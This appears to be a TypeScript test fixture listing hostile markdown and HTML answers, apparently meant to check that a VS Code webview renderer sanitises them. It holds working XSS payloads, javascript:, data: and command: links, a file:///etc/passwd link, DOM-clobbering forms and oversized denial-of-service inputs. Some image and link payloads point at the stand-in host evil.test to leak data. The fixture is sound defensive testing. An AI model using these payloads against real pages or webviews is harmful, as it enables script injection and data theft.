/** Answers that try to load, run, navigate, break out or overwhelm. None may succeed. */
export const hostileAnswers: readonly string[] = [
  // Markup
  "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
  '<iframe src="http://evil.test/frame"></iframe><object data="http://evil.test/o"></object>',
  '<style>@import "http://evil.test/s.css"; body { background: url(http://evil.test/b) }</style>',
  '<link rel=stylesheet href="http://evil.test/l.css"><meta http-equiv=refresh content="0;url=http://evil.test/m">',
  '<base href="http://evil.test/"><form action="http://evil.test/f"><input name=a autofocus onfocus=alert(1)><button>go</button></form>',
  '<a href="http://evil.test/ping" ping="http://evil.test/ping">x</a><video poster="http://evil.test/v"><source src="http://evil.test/s"></video>',
  "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<!--><img src=x onerror=alert(1)>--><![CDATA[><img src=x onerror=alert(1)>]]><?x ><img src=x onerror=alert(1)?>",
  "<template><script>alert(1)</script></template><custom-element onclick=alert(1)>x</custom-element>",
  '<div id="row-0" class="list" style="position:fixed;inset:0;background:url(http://evil.test/c)">cover</div>',
  "<form id=body><input name=attributes><input name=dataset></form><a id=acquireVsCodeApi name=postMessage>x</a>",
  // Links
  "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](&#106;avascript:alert(1))",
  "[click](java&Tab;script:alert(1)) [click](<java\nscript:alert(1)>) [click](\u0001javascript:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [click](vbscript:msgbox(1))",
  "[click](command:workbench.action.closeWindow) [click](vscode://evil.test/x) [click](file:///etc/passwd)",
  "[click](blob:http://evil.test/1) [click](filesystem:http://evil.test/1) [click](//evil.test/x) [click](../../x)",
  '[a](http://evil.test "t\\" onmouseover=\\"alert(1)") <http://evil.test/auto> http://evil.test/bare',
  "[a]: javascript:alert(1)\n\n[a] [text][a] ![image][a]",
  '[x](http://evil.test/"onclick="alert(1)) [x](http://evil.test/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)',
  // Images
  "![pixel](http://evil.test/pixel.gif) ![](https://evil.test/?q=secret) ![x](//evil.test/p.png)",
  '![a"onerror="alert(1)](x) ![a](data:image/svg+xml,<svg/onload=alert(1)>) ![a](javascript:alert(1))',
  "[![badge](http://evil.test/badge.svg)](javascript:alert(1)) [![b](http://evil.test/b.svg)](http://evil.test/)",
  // Code and tables
  '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  "`<img src=x onerror=alert(1)>` ``</code><script>alert(1)</script>``",
  "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|:-:|--:|\n| <script>alert(1)</script> | b |",
  // Characters and size
  "\u0000<\u0000script>alert(1)</script> \u202egnp.exe\u202c \u2028alert(1)\u2029 \ufeff\ud800",
  `${">".repeat(5_000)} deep`,
  "*a ".repeat(20_000),
  "[".repeat(20_000),
  `${"- ".repeat(2_000)}nested`,
  `|${"a|".repeat(3_000)}\n|${"-|".repeat(3_000)}\n`,
  "<b>".repeat(10_000),
  `![${"a".repeat(50_000)}](http://evil.test/${"b".repeat(50_000)})`,
];
